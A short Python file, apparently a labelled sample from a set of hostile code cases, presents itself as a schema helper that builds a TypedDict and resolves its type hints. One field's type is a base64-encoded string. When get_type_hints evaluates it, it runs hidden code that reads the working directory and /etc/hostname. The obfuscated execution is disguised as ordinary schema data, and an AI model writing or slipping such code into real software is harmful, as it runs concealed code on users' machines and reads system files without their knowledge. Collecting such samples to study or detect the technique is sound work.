# family: hostile, blind round 61 (typing TypedDict functional API: ForwardRef string eval'd by get_type_hints)
"""Schema helper: build a TypedDict from a serialized schema and resolve its hints."""
import base64
import typing

SCHEMA = {
    "name": "str",
    "size": base64.b64decode(
        b"cHJpbnQoX19pbXBvcnRfXygnb3MnKS5nZXRjd2QoKSwgb3BlbignL2V0Yy9ob3N0bmFtZScpLnJlYWQoKSkgb3IgaW50"
    ).decode(),
}


def build_schema(fields):
    """Return a TypedDict and its resolved annotations."""
    record = typing.TypedDict("Record", fields)
    return typing.get_type_hints(record)


print(build_schema(SCHEMA))
